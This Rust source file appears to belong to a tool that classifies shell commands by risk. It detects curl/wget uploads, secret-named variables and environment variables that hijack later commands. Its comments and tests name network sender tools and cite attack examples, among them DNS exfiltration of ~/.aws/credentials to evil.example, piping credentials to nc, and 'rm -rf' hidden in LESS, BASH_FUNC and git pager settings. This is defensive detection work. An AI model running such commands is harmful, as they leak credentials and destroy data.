//! Argument helpers shared by the command catalogue: flag clusters, option values,
//! operands, sensitive paths, literal output of `echo`/`printf`, and environment
//! assignments that change what later commands run.

use super::shell::{Input, Sh, decode_escapes, program_name};
use crate::Effect::{Admin, Mutating};

mod memory;
mod memory_spelled;
mod paths;
mod sources;
mod spelled;
pub(crate) use memory::{code_reads_memory, memory_device, memory_read};
pub(crate) use memory_spelled::Filler;
pub(crate) use paths::{
    file_tool_runs_later, harmless_sink, runs_later, secret_path, sensitive_path,
    socket_or_control, write_risk,
};
use sources::{CONFIG_SOURCES, ENDPOINTS, TRACE_FILES, pg_options};
pub(crate) use sources::{loopback_address, unc_host, usual_kubeconfig};
pub(crate) use spelled::plain as plain_path;

/// Short flags (clusters like `-rf`) and long flags before `--`.
pub(crate) fn has_short(args: &[String], c: char) -> bool {
    args.iter().take_while(|a| *a != "--").any(|a| {
        !a.starts_with("--")
            && a.strip_prefix('-')
                .is_some_and(|flags| !flags.is_empty() && flags.contains(c))
    })
}

pub(crate) fn has_long(args: &[String], name: &str) -> bool {
    args.iter().take_while(|a| *a != "--").any(|a| {
        a == name
            || a.strip_prefix(name)
                .is_some_and(|rest| rest.starts_with('='))
    })
}

/// The value of an option: `-X v`, `-Xv`, `--long v`, `--long=v`.
pub(crate) fn opt_value<'a>(args: &'a [String], short: &[&str], long: &[&str]) -> Option<&'a str> {
    let mut it = args.iter().take_while(|a| *a != "--").peekable();
    while let Some(a) = it.next() {
        for s in short {
            if a == s {
                return it.peek().map(|v| v.as_str());
            }
            // A cluster ending in the flag: `-qc 'cmd'`.
            if s.len() == 2
                && a.len() > 2
                && a.starts_with('-')
                && !a.starts_with("--")
                && s.get(1..).is_some_and(|f| a.ends_with(f))
                && a.get(1..)
                    .is_some_and(|b| b.chars().all(|c| c.is_ascii_alphabetic()))
            {
                return it.peek().map(|v| v.as_str());
            }
            if let Some(v) = a.strip_prefix(s)
                && !v.is_empty()
                && !a.starts_with("--")
            {
                return Some(v);
            }
            // A cluster with the flag inside: `-sXDELETE`, `-sX` then the value.
            if let Some(c) = s.strip_prefix('-').filter(|c| c.len() == 1)
                && !a.starts_with("--")
                && let Some(body) = a.strip_prefix('-')
                && let Some(pos) = body.find(c)
                && body
                    .get(..pos)
                    .is_some_and(|before| before.chars().all(|x| x.is_ascii_alphabetic()))
            {
                let v = body.get(pos + c.len()..).unwrap_or("");
                return if v.is_empty() {
                    it.peek().map(|v| v.as_str())
                } else {
                    Some(v)
                };
            }
        }
        for l in long {
            if a == l {
                return it.peek().map(|v| v.as_str());
            }
            if let Some(v) = a.strip_prefix(l).and_then(|r| r.strip_prefix('=')) {
                return Some(v);
            }
        }
    }
    None
}

/// Every value of an option given more than once (`mysql -e A -e B` runs both), in order.
pub(crate) fn opt_values<'a>(args: &'a [String], short: &[&str], long: &[&str]) -> Vec<&'a str> {
    let mut out = Vec::new();
    let mut rest = args;
    while let Some(v) = opt_value(rest, short, long) {
        out.push(v);
        // Go on after the word that holds the value (the option itself or the next word).
        let addr = v.as_ptr() as usize;
        let holder = rest.iter().position(|a| {
            let start = a.as_ptr() as usize;
            (start..=start + a.len()).contains(&addr)
        });
        match holder {
            Some(i) => rest = rest.get(i + 1..).unwrap_or_default(),
            None => break,
        }
    }
    out
}

/// Index of the first operand, skipping options; `with_value` options take the next word.
pub(crate) fn first_operand(args: &[String], with_value: &[&str]) -> usize {
    let mut i = 0;
    while let Some(a) = args.get(i) {
        if a == "--" {
            return i + 1;
        }
        if !a.starts_with('-') || a == "-" {
            return i;
        }
        if with_value.contains(&a.as_str()) {
            i += 1;
        }
        i += 1;
    }
    i
}

/// The first operand (subcommand) after global options.
pub(crate) fn sub<'a>(args: &'a [String], with_value: &[&str]) -> (&'a str, &'a [String]) {
    let i = first_operand(args, with_value);
    (
        args.get(i).map(String::as_str).unwrap_or(""),
        args.get(i + 1..).unwrap_or_default(),
    )
}

pub(crate) fn any(args: &[String], words: &[&str]) -> bool {
    args.iter().any(|a| words.contains(&a.as_str()))
}

/// A secret variable named in Windows' syntax inside a word (`$env:GITHUB_TOKEN`, `${env:X}`,
/// cmd's `%AWS_SECRET_ACCESS_KEY%`): what a network program puts it in leaves with it.
pub(crate) fn windows_secret_reference(word: &str) -> Option<&str> {
    // Most words hold neither form: passed over without a lowercase copy.
    if !word.contains(['%', ':']) {
        return None;
    }
    let lower = word.to_ascii_lowercase();
    let name_at = |at: usize| {
        let rest = word.get(at..)?;
        let end = rest
            .find(|c: char| !(c.is_ascii_alphanumeric() || c == '_'))
            .unwrap_or(rest.len());
        rest.get(..end).filter(|n| sent_secret_variable(n))
    };
    lower
        .match_indices("env:")
        .filter(|(at, _)| {
            lower
                .get(..*at)
                .is_some_and(|b| b.ends_with('$') || b.ends_with("${"))
        })
        .find_map(|(at, _)| name_at(at + 4))
        .or_else(|| {
            word.match_indices('%').find_map(|(at, _)| {
                let name = name_at(at + 1)?;
                word.get(at + 1 + name.len()..)?
                    .starts_with('%')
                    .then_some(name)
            })
        })
}

/// A dry run turned off again on the same line (`--dry-run --dry-run=none`, `--dry-run
/// --no-dry-run`, `--dryrun=false`): the tools take the last value, so no dry-run flag of
/// that line proves a read.
pub(crate) fn dry_run_cancelled(args: &[String]) -> bool {
    args.iter().any(|a| {
        let a = a.to_ascii_lowercase();
        let a = a.replace('_', "-");
        // git takes any unambiguous prefix (`--no-dr`).
        (a.len() >= 6 && "--no-dry-run".starts_with(a.as_str()))
            || a.starts_with("--no-dry")
            || a.starts_with("--nodry")
            || a.starts_with("--no-simulate")
            || ["--dry-run=", "--dryrun=", "--dry="].iter().any(|p| {
                a.strip_prefix(p).is_some_and(|v| {
                    !matches!(v, "client" | "server" | "true" | "1" | "yes" | "on" | "all")
                })
            })
    })
}

/// True if an uppercase variable name says where a secret is, not the secret
/// (`SSH_KEY_PATH`, `GITHUB_TOKEN_NAME`, `SIGNING_KEY_ID`).
fn locator_name(n: &str) -> bool {
    [
        "_PATH",
        "_FILE",
        "_DIR",
        "_ID",
        "_NAME",
        "_ENDPOINT",
        "_EXPIRY",
        "_TTL",
    ]
    .iter()
    .any(|x| n.ends_with(x))
        || n.contains("PUBLIC")
}

/// True if an environment variable's name says it holds a secret.
pub(crate) fn secret_variable(name: &str) -> bool {
    let n = name.to_ascii_uppercase();
    let locator = locator_name(&n);
    // The names taken before the fifth red-team set, whatever their suffix (so that no
    // verdict is lowered: `PRIVATE_KEY_PATH` still counts).
    let named = [
        "SECRET",
        "TOKEN",
        "PASSWORD",
        "PASSWD",
        "API_KEY",
        "APIKEY",
        "PRIVATE_KEY",
        "ACCESS_KEY",
        "CREDENTIAL",
        "_PAT",
    ]
    .iter()
    .any(|w| n.contains(w));
    let secret = [
        "COOKIE",
        "CONNECTION_STRING",
        "CONN_STR",
        "DATABASE_URL",
        "DSN",
        "PGPASSWORD",
        "MYSQL_PWD",
    ]
    .iter()
    .any(|w| n.contains(w))
        || n.ends_with("_PASS")
        || n.contains("_PASS_")
        || n.ends_with("_PWD")
        || n.split('_').any(|w| w == "AUTH")
        || [
            "ENCRYPTION_KEY",
            "SIGNING_KEY",
            "MASTER_KEY",
            "LICENSE_KEY",
            "SESSION_KEY",
        ]
        .iter()
        .any(|k| n.contains(k))
        || ((n.ends_with("_URI") || n.ends_with("_URL"))
            && [
                "MONGO", "REDIS", "POSTGRES", "MYSQL", "AMQP", "RABBIT", "DB",
            ]
            .iter()
            .any(|d| n.contains(d)));
    named || (secret && !locator)
}

/// A variable whose value is a credential, where its expansion is sent: as
/// [`secret_variable`], but a name that says where a secret is (`SSH_KEY_PATH`,
/// `GITHUB_TOKEN_NAME`) never counts. No verdict took these names before.
pub(crate) fn sent_secret_variable(name: &str) -> bool {
    secret_variable(name) && !locator_name(&name.to_ascii_uppercase())
}

/// The local files a `curl`/`wget`/HTTPie command sends: `-T F`, `-F name=@F`/`name=<F`,
/// `-d @F`, `--data-urlencode name@F`, `--post-file F`, `http … name@F`.
pub(crate) fn uploaded_files<'a>(name: &str, args: &'a [String]) -> impl Iterator<Item = &'a str> {
    const FLAGS: &[&str] = &[
        "-T",
        "--upload-file",
        "-F",
        "--form",
        "--form-string",
        "-d",
        "--data",
        "--data-binary",
        "--data-ascii",
        "--data-urlencode",
        "--json",
        "--post-file",
        "--body-file",
        "--header",
        // curl's only: wget's `-H` spans hosts and its `-b` runs in the background.
        "-H",
        "-b",
        "--cookie",
    ];
    let curl_like = matches!(name, "curl" | "wget");
    // curl's `-H`, `-b` and `--cookie` take a value; wget's `-H` and `-b` take none.
    let is_curl = name == "curl";
    let takes =
        move |f: &str| FLAGS.contains(&f) && (is_curl || !matches!(f, "-H" | "-b" | "--cookie"));
    let mut prev: Option<&'a str> = None;
    // wget's `-e post_file=F` (a wgetrc command; case, `_` and `-` in its name do not count).
    let is_wget = name == "wget";
    let mut prev_e = false;
    let wgetrc = args.iter().filter_map(move |a| {
        let value = if std::mem::replace(&mut prev_e, false) {
            Some(a.as_str())
        } else {
            a.strip_prefix("--execute=").or_else(|| {
                a.strip_prefix("-e")
                    .filter(|v| !v.is_empty() && !v.starts_with('-'))
            })
        };
        if is_wget && value.is_none() && matches!(a.as_str(), "-e" | "--execute") {
            prev_e = true;
        }
        let (key, file) = value.filter(|_| is_wget)?.split_once('=')?;
        let key: String = key
            .chars()
            .filter(|c| *c != '_' && *c != '-')
            .collect::<String>()
            .to_ascii_lowercase();
        matches!(key.trim(), "postfile" | "bodyfile").then(|| file.trim())
    });
    args.iter()
        .filter_map(move |a| {
            let before = prev.replace(a.as_str());
            // The flag and its value: the next word, or attached (`-Tfile`, `--form=x=@f`).
            let (flag, v) = match before {
                Some(f) if takes(f) => (Some(f), a.as_str()),
                _ => match FLAGS.iter().filter(|f| takes(f)).find_map(|f| {
                    a.strip_prefix(f)
                        .filter(|v| !v.is_empty() && (f.len() == 2 || v.starts_with('=')))
                        .map(|v| (*f, v.strip_prefix('=').unwrap_or(v)))
                }) {
                    Some((f, v)) => (Some(f), v),
                    None if !curl_like && !a.starts_with('-') => (None, a.as_str()),
                    None => return None,
                },
            };
            let whole_file = matches!(
                flag,
                Some("-T" | "--upload-file" | "--post-file" | "--body-file")
            );
            // `-b FILE` reads cookies from a file (a value with `=` is the cookies);
            // `-H @FILE` reads headers from one; `--data-urlencode name@FILE` a value.
            let cookie_file = matches!(flag, Some("-b" | "--cookie")) && !v.contains('=');
            let header = matches!(flag, Some("-H" | "--header"));
            let urlencoded = flag == Some("--data-urlencode");
            if header && !v.starts_with('@') {
                return None;
            }
            let file = v
                .split_once("=@")
                .or_else(|| v.split_once("=<"))
                .map(|(_, f)| f)
                .or_else(|| v.strip_prefix('@'))
                .or_else(|| {
                    v.split_once('@')
                        .map(|(_, f)| f)
                        .filter(|_| !curl_like || urlencoded)
                })
                .or_else(|| (whole_file || cookie_file).then_some(v))?;
            // `;type=…` options after the file name in `-F`.
            Some(file.split(';').next().unwrap_or(file))
        })
        .chain(wgetrc)
}

/// Programs that send their input over the network. The resolvers and `ping` send their
/// arguments: a name they look up, or `ping -p`'s pattern, carries data out (DNS and ICMP
/// exfiltration, `dig $(base64 ~/.aws/credentials).evil.example`).
pub(crate) const NETWORK_SENDERS: &[&str] = &[
    "nc",
    "ncat",
    "netcat",
    "telnet",
    "socat",
    "curl",
    "wget",
    "ssh",
    "openssl",
    "ftp",
    "sftp",
    "tftp",
    "mail",
    "mailx",
    "sendmail",
    "http",
    "https",
    "xh",
    "scp",
    "dig",
    "nslookup",
    "host",
    "drill",
    "kdig",
    "delv",
    "ping",
    "ping6",
    "resolvectl",
    "getent",
    "gh",
    "glab",
    "git",
    "traceroute",
    "traceroute6",
    "tracepath",
    "mtr",
    "whois",
    // Registry, cloud and transfer clients put their arguments in requests too.
    "docker",
    "podman",
    "skopeo",
    "crane",
    "regctl",
    "oras",
    "aws",
    "gcloud",
    "gsutil",
    "az",
    "rsync",
    "rclone",
    "s3cmd",
    "websocat",
    "wscat",
    "grpcurl",
    "nmap",
];

/// The content of a file as a program's input; a secret file is marked so that a program
/// that sends its input away (`nc host 9000 < ~/.aws/credentials`) is seen doing so.
pub(crate) fn file_input(path: &str) -> Input {
    if secret_path(path) {
        Input::Unknown(format!("{SECRET_INPUT}`{path}`"))
    } else {
        Input::Unknown(format!("the file `{path}`"))
    }
}

/// A program's input that carries the secret `what`.
pub(crate) fn secret_input(what: &str) -> Input {
    Input::Unknown(format!("{SECRET_INPUT}`{what}`"))
}

/// How [`file_input`] describes a secret file.
pub(crate) const SECRET_INPUT: &str = "the secret ";

/// True if the command writes nothing to its output (so `cmd > f` only truncates `f`).
pub(crate) fn produces_nothing(argv: &[String]) -> bool {
    let Some(first) = argv.first() else {
        return true;
    };
    let args = argv.get(1..).unwrap_or_default();
    match program_name(first) {
        ":" | "true" | "false" => true,
        "cat" => !args.is_empty() && args.iter().all(|a| a == "/dev/null"),
        "echo" => args.iter().all(|a| a == "-n" || a.is_empty()) && args.iter().any(|a| a == "-n"),
        "printf" => args.iter().all(String::is_empty),
        _ => false,
    }
}

/// The output of `echo` and `printf` when it is a literal.
pub(crate) fn literal_output(argv: &[String]) -> Option<String> {
    let first = argv.first()?;
    let args = argv.get(1..).unwrap_or_default();
    match program_name(first) {
        "echo" => {
            let mut escapes = false;
            let mut newline = true;
            let mut rest = args;
            while let Some(a) = rest.first().filter(|a| {
                a.strip_prefix('-')
                    .is_some_and(|f| !f.is_empty() && f.chars().all(|c| "neE".contains(c)))
            }) {
                escapes |= a.contains('e');
                newline &= !a.contains('n');
                rest = rest.get(1..).unwrap_or_default();
            }
            let mut s = rest.join(" ");
            if escapes {
                s = decode_escapes(&s);
            }
            if newline {
                s.push('\n');
            }
            Some(s)
        }
        "printf" => {
            let fmt = args.first()?;
            let mut s = decode_escapes(fmt);
            for a in args.get(1..).unwrap_or_default() {
                if let Some(i) = s.find("%s").or_else(|| s.find("%b")) {
                    s.replace_range(i..i + 2, &decode_escapes(a));
                } else {
                    s.push_str(a);
                }
            }
            Some(s)
        }
        _ => None,
    }
}

/// Environment variables whose change redirects what later commands run.
#[rustfmt::skip]
const POISON_ADMIN: &[&str] = &[
    "PATH", "LD_PRELOAD", "LD_LIBRARY_PATH", "LD_AUDIT", "DYLD_INSERT_LIBRARIES",
    "DYLD_LIBRARY_PATH", "BASH_ENV", "ENV", "SUDO_ASKPASS", "PROMPT_COMMAND",
];
#[rustfmt::skip]
const POISON_COMMAND: &[&str] = &[
    "GIT_SSH_COMMAND", "GIT_SSH", "GIT_EDITOR", "GIT_PAGER", "GIT_EXTERNAL_DIFF", "GIT_ASKPASS",
    "PAGER", "MANPAGER", "EDITOR", "VISUAL", "SHELL", "BROWSER", "SSH_ASKPASS", "LESSOPEN",
    "SYSTEMD_PAGER", "PSQL_PAGER", "MYSQL_PS1", "RESTIC_PASSWORD_COMMAND", "BORG_PASSCOMMAND",
    "BORG_RSH", "RSYNC_RSH", "BORG_REMOTE_PATH", "RSYNC_CONNECT_PROG", "KUBECTL_EXTERNAL_DIFF",
    "GIT_PROXY_COMMAND", "GIT_SEQUENCE_EDITOR", "LESSCLOSE", "FCEDIT", "HGEDITOR", "HGMERGE",
    "RCLONE_PASSWORD_COMMAND", "RCLONE_SFTP_SSH", "ANSIBLE_PYTHON_INTERPRETER",
    "ANSIBLE_SSH_EXECUTABLE", "ANSIBLE_BECOME_EXE",
];
/// ansible's ssh options: `-o ProxyCommand=CMD` in them runs CMD locally.
#[rustfmt::skip]
const SSH_ARGS: &[&str] = &[
    "ANSIBLE_SSH_ARGS", "ANSIBLE_SSH_COMMON_ARGS", "ANSIBLE_SSH_EXTRA_ARGS",
    "ANSIBLE_SCP_EXTRA_ARGS", "ANSIBLE_SFTP_EXTRA_ARGS",
];
#[rustfmt::skip]
const POISON: &[&str] = &[
    "GIT_EXEC_PATH", "GIT_CONFIG", "GIT_CONFIG_GLOBAL", "GIT_CONFIG_SYSTEM", "GIT_DIR",
    "GIT_CONFIG_PARAMETERS", "PYTHONPATH", "PYTHONSTARTUP", "PYTHONHOME", "NODE_OPTIONS",
    "NODE_PATH", "PERL5OPT", "PERL5LIB", "RUBYOPT", "RUBYLIB", "IFS", "HISTFILE", "CDPATH", "PS4",
    "PS1", "npm_config_script_shell", "JAVA_TOOL_OPTIONS", "CLASSPATH", "HGRCPATH",
    "ANSIBLE_CONFIG", "ANSIBLE_INVENTORY", "ANSIBLE_VAULT_PASSWORD_FILE", "ANSIBLE_LIBRARY",
    "ANSIBLE_CALLBACKS_ENABLED", "ANSIBLE_LOG_PATH", "LIBMYSQL_PLUGINS", "LIBMYSQL_PLUGIN_DIR",
    "RCLONE_LOG_FILE", "RCLONE_CONFIG", "HISTSIZE", "HISTFILESIZE", "HISTCONTROL", "HISTIGNORE",
    "MANOPT", "FFREPORT", "LESSKEYIN", "LESSKEY", "PYTHONUSERBASE", "LESSKEY_CONTENT",
    "LESSKEYIN_SYSTEM", "LESSKEY_SYSTEM", "MOST_INITFILE",
    "PHP_INI_SCAN_DIR", "PHPRC", "MANROFFOPT",
];
/// An environment assignment (`X=1 cmd`, `export X=1`).
pub(crate) fn assignment(sh: &mut Sh, name: &str, value: &str, standalone: bool) {
    let _ = standalone;
    if POISON_ADMIN.contains(&name) {
        sh.add(
            Admin,
            format!("sets `{name}`, which decides what later commands run"),
        );
    } else if (POISON_COMMAND.contains(&name)
        // A pager that only shows text, or none (`GIT_PAGER=cat git log`, `PAGER=`).
        && !(matches!(name, "GIT_PAGER" | "PAGER" | "MANPAGER" | "SYSTEMD_PAGER" | "PSQL_PAGER")
            && (value.trim().is_empty() || super::catalogue::harmless_pager(value))))
        // Every program's own pager or editor (`AWS_PAGER`, `GH_PAGER`, `KUBE_EDITOR`; none,
        // or one that only shows text, as in `AWS_PAGER="" aws …`, runs nothing), and a
        // value git reads as a setting's (`GIT_CONFIG_VALUE_0` for `core.fsmonitor`).
        || ((name.ends_with("_PAGER") || name.ends_with("_EDITOR"))
            && !value.trim().is_empty()
            && !super::catalogue::harmless_pager(value))
        || name.starts_with("GIT_CONFIG_VALUE_")
        // `GH_BROWSER`, `AWS_BROWSER`: each program's own browser is a command too.
        // (A word, `PUPPETEER_BROWSER=firefox` or `NO_BROWSER=1`, names no command line.)
        || (name.ends_with("_BROWSER") && value.contains(|c: char| c.is_whitespace() || c == '/'))
    {
        sh.add(
            Mutating,
            format!("sets `{name}` to a command that later programs run"),
        );
        sh.shell_text(value.trim_start_matches('!'), &format!("`{name}`"));
    } else if name.starts_with("TF_CLI_ARGS") {
        // `TF_CLI_ARGS_plan='-out=~/.bashrc'`: options every later terraform command takes
        // (the twenty-third sets).
        sh.add(
            Mutating,
            format!("sets `{name}`, options later terraform commands add to their own"),
        );
    } else if name == "PYTHONWARNINGS"
        && value
            .split(',')
            .any(|w| w.split(':').nth(2).is_some_and(|c| c.contains('.')))
    {
        // `ignore::pkg.Module`: Python imports the module a filter's category names.
        sh.add(
            Mutating,
            format!("sets `{name}` to a filter that imports a module"),
        );
    } else if matches!(name, "LESS" | "SYSTEMD_LESS")
        && let Some((_, command)) = value
            .split_whitespace()
            .find(|o| o.starts_with('+') || o.starts_with("-+"))
            .and_then(|o| value.get(value.find(o).unwrap_or(0)..))
            .and_then(|o| o.split_once(['!', '|']))
    {
        // `LESS='+!rm -rf ~'`: less's first command runs a shell command (`!`) or pipes
        // to one (`|`); plain options (`LESS=-R`, `LESS=FRX`) run nothing.
        sh.add(
            Mutating,
            format!("sets `{name}` to start less with a shell command"),
        );
        sh.shell_text(command, &format!("`{name}`"));
    } else if matches!(name, "LESS" | "SYSTEMD_LESS") {
        // systemd's programs give `SYSTEMD_LESS` to their pager in place of `LESS` (the
        // twenty-third sets: `SYSTEMD_LESS='+!rm -rf /srv' systemctl status`).
        // `LESS='+s ~/.bashrc'`, `LESS=-o/tmp/log`, `LESS='-R$+!cmd'`, `-Ro FILE`,
        // `--log-f=FILE`: an initial command, or a log file every later `less` writes.
        let via = format!("`{name}`");
        let mut words = value
            .split(|c: char| c.is_whitespace() || c == '$')
            .filter(|w| !w.is_empty());
        while let Some(o) = words.next() {
            let lower = o.to_ascii_lowercase();
            let flag = lower.split('=').next().unwrap_or_default();
            if let Some(k) = super::catalogue::lesskey_option(o) {
                sh.add(
                    Mutating,
                    format!("{via} makes `less` load key bindings (`{k}`), which can run commands"),
                );
            }
            let file = if let Some(c) = o.strip_prefix('+') {
                super::catalogue::less_initial(sh, c, &via);
                None
            } else if flag.len() > 6 && "--log-file".starts_with(flag) {
                Some(o.split_once('=').map(|(_, f)| f))
            } else if let Some(cluster) = o.strip_prefix('-').filter(|c| !c.starts_with(['-', '+']))
            {
                cluster
                    .find(['o', 'O'])
                    .map(|i| cluster.get(i + 1..).filter(|f| !f.is_empty()))
            } else {
                None
            };
            if let Some(file) = file {
                let file = file.or_else(|| words.next()).unwrap_or_default();
                super::catalogue::write_path(sh, file, &via);
            }
        }
    } else if name.starts_with("RCLONE_") && (name.ends_with("_COMMAND") || name.ends_with("_SSH"))
    {
        // `RCLONE_CONFIG_X_SSH`, `RCLONE_WEBDAV_BEARER_TOKEN_COMMAND`: a remote's command.
        sh.add(
            Mutating,
            format!("sets `{name}` to a command that rclone runs"),
        );
        sh.shell_text(value, &format!("`{name}`"));
    } else if name.starts_with("RCLONE_RC") || name.starts_with("RCLONE_DUMP") {
        // `RCLONE_RC=true` is `--rc`, `RCLONE_DUMP=bodies` is `--dump` (the review).
        sh.add(
            Mutating,
            format!("sets `{name}`, rclone's remote control or traffic dump"),
        );
    } else if name.starts_with("ANSIBLE_") && name.ends_with("_PLUGINS") {
        sh.add(
            Mutating,
            format!("sets `{name}`, plugins from a folder ansible loads"),
        );
    } else if name == "PGOPTIONS" {
        pg_options(sh, value);
    } else if name.to_ascii_lowercase().ends_with("_proxy")
        && !name.eq_ignore_ascii_case("no_proxy")
        && !value.trim().is_empty()
        && !loopback_address(value)
    {
        sh.add(
            Mutating,
            format!("sets `{name}`: later requests, and the credentials they carry, go through `{value}`"),
        );
    } else if CONFIG_SOURCES.contains(&name)
        && !(name == "GOTOOLCHAIN" && matches!(value.trim(), "local" | "auto" | "path" | ""))
    {
        sh.add(
            Mutating,
            format!("sets `{name}`: later programs load configuration or tools from `{value}`, which can run commands"),
        );
    } else if name == "KUBECONFIG" && !usual_kubeconfig(value) {
        sh.add(
            Mutating,
            format!("sets `KUBECONFIG` to `{value}`, a kubeconfig outside `~/.kube` (its `exec` plugin runs)"),
        );
    } else if (ENDPOINTS.contains(&name)
        || name.starts_with("AWS_ENDPOINT_URL_")
        || name.starts_with("CLOUDSDK_API_ENDPOINT_OVERRIDES_"))
        && !loopback_address(value)
    {
        sh.add(
            Mutating,
            format!("sets `{name}`: later commands send their stored credentials to `{value}`"),
        );
    } else if TRACE_FILES.contains(&name) && value.starts_with('$') {
        sh.add(
            Mutating,
            format!("sets `{name}`: a trace is written to a file named at run time"),
        );
    } else if TRACE_FILES.contains(&name)
        && (name == "SSLKEYLOGFILE" || value.starts_with(['/', '~']))
        && !value.trim().is_empty()
    {
        super::catalogue::write_path_to(sh, value, true, &format!("`{name}`"));
    } else if SSH_ARGS.contains(&name) {
        super::catalogue::ssh_option_text(sh, value, &format!("`{name}`"));
    } else if name == "GIT_CONFIG_PARAMETERS" {
        // `'core.pager=rm -rf /srv'` or `'core.pager'='rm -rf /srv'`, space-separated: each
        // pair judged as `git -c` would set it.
        sh.add(
            Mutating,
            format!("sets `{name}`, which changes what later commands do"),
        );
        // Quoted items, with any space between them; `'k'='v'` is one item.
        let joined = value.replace("'='", "=");
        for item in joined.split('\'').skip(1).step_by(2) {
            let (k, v) = item.split_once('=').unwrap_or((item, ""));
            super::devops::git_config(sh, k.trim(), v);
        }
    } else if name.starts_with("BASH_FUNC_") {
        // An exported function (`BASH_FUNC_ls%%=() { rm -rf /srv; }`): every bash started
        // with it runs the body for that name.
        sh.add(
            Mutating,
            format!("sets `{name}`, a function the shells it starts define"),
        );
        let body = value.trim_start().trim_start_matches("()").trim();
        sh.shell_text(body, &format!("`{name}`"));
    } else if POISON.contains(&name) || name.starts_with("GIT_CONFIG_") {
        sh.add(
            Mutating,
            format!("sets `{name}`, which changes what later commands do"),
        );
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::Effect::Destructive;

    #[test]
    fn every_value_of_a_repeated_option() {
        let argv = |s: &str| s.split(' ').map(str::to_string).collect::<Vec<_>>();
        let a = argv("-e A --execute=B -eC --execute D -x E");
        assert_eq!(
            opt_values(&a, &["-e"], &["--execute"]),
            vec!["A", "B", "C", "D"]
        );
        // The value of one occurrence is not read as the next option.
        let a = argv("-e -e -e B");
        assert_eq!(opt_values(&a, &["-e"], &[]), vec!["-e", "B"]);
        assert!(opt_values(&argv("-x A"), &["-e"], &[]).is_empty());
    }

    #[test]
    fn a_cancelled_dry_run_proves_nothing() {
        let argv = |s: &str| s.split(' ').map(str::to_string).collect::<Vec<_>>();
        for cancelled in [
            "--dry-run=client --dry-run=none",
            "--dry-run --no-dry-run",
            "--dryrun --no-dryrun",
            "--dry-run --dry-run=false",
            "--dry_run=0",
            "-n --no-dry-run",
        ] {
            assert!(dry_run_cancelled(&argv(cancelled)), "{cancelled}");
        }
        for kept in [
            "--dry-run",
            "--dry-run=client",
            "--dry-run=server --dry-run=client",
            "-n",
        ] {
            assert!(!dry_run_cancelled(&argv(kept)), "{kept}");
        }
    }

    #[test]
    fn secrets_in_windows_variable_syntax() {
        assert_eq!(
            windows_secret_reference("$env:GITHUB_TOKEN.evil.example"),
            Some("GITHUB_TOKEN")
        );
        assert_eq!(
            windows_secret_reference("https://x/?k=${env:NPM_TOKEN}"),
            Some("NPM_TOKEN")
        );
        assert_eq!(
            windows_secret_reference("%AWS_SECRET_ACCESS_KEY%.x"),
            Some("AWS_SECRET_ACCESS_KEY")
        );
        assert_eq!(windows_secret_reference("%COMPUTERNAME%.corp"), None);
        assert_eq!(windows_secret_reference("$env:USERDOMAIN"), None);
        assert_eq!(windows_secret_reference("100%GITHUB_TOKEN"), None);
        assert_eq!(windows_secret_reference("env:GITHUB_TOKEN"), None);
    }

    #[test]
    fn write_risk_by_location() {
        let risk = |p: &str, append: bool| write_risk(p, append).map(|(e, _)| e);
        assert_eq!(risk("/var/lib/mysql/ibdata1", false), Some(Destructive));
        assert_eq!(
            risk("/srv/app/config/database.yml", false),
            Some(Destructive)
        );
        assert_eq!(risk("./prod.sqlite", false), Some(Destructive));
        assert_eq!(risk("/home/dev/.bashrc", true), Some(Admin));
        assert_eq!(risk("~/.ssh/config", false), Some(Admin));
        assert_eq!(risk("/etc/hosts", false), Some(Admin));
        assert_eq!(risk("public/../../../../etc/hosts", false), Some(Admin));
        assert_eq!(risk("..\\..\\..\\etc\\sudoers", false), Some(Admin));
        // Twins: the workspace, /tmp, appending to data, a backup destination.
        assert_eq!(risk("out.txt", false), None);
        // Twins: climbing one or two levels stays in the project's neighbourhood.
        assert_eq!(risk("../etc/notes.txt", false), None);
        assert_eq!(risk("a/../../bin/tool", false), None);
        assert_eq!(risk("/tmp/x.db", false), None);
        assert_eq!(risk("/var/log/app.log", true), None);
        assert_eq!(risk("/var/backups/shop.sql", false), None);
    }

    #[test]
    fn secret_paths() {
        for p in [
            "~/.ssh/id_ed25519",
            "/home/app/.env",
            "~/.aws/credentials",
            "server.key",
        ] {
            assert!(secret_path(p), "{p}");
        }
        for p in [
            "~/.ssh/id_ed25519.pub",
            "README.md",
            "src/env.rs",
            "report.pdf",
        ] {
            assert!(!secret_path(p), "{p}");
        }
    }

    #[test]
    fn uploaded_files_of_curl_and_httpie() {
        let argv = |s: &str| s.split(' ').map(str::to_string).collect::<Vec<_>>();
        let files = |name: &str, s: &str| {
            uploaded_files(name, &argv(s))
                .map(str::to_string)
                .collect::<Vec<_>>()
        };
        assert_eq!(files("curl", "-T a.tgz https://x"), ["a.tgz"]);
        assert_eq!(
            files("curl", "-F f=@b.txt;type=text/plain https://x"),
            ["b.txt"]
        );
        assert_eq!(files("curl", "--data-binary @c.json https://x"), ["c.json"]);
        assert_eq!(files("wget", "--post-file=d.bin https://x"), ["d.bin"]);
        assert_eq!(files("wget", "-e post_file=k https://x"), ["k"]);
        assert_eq!(files("wget", "--execute=Body-File=k https://x"), ["k"]);
        assert!(files("wget", "-e robots=off https://x").is_empty());
        assert_eq!(files("http", "POST https://x @e.json"), ["e.json"]);
        // Twins: data that is not a file.
        assert!(files("curl", "-d a=1 https://x").is_empty());
        assert!(files("curl", "-H Authorization:x https://x").is_empty());
    }
}
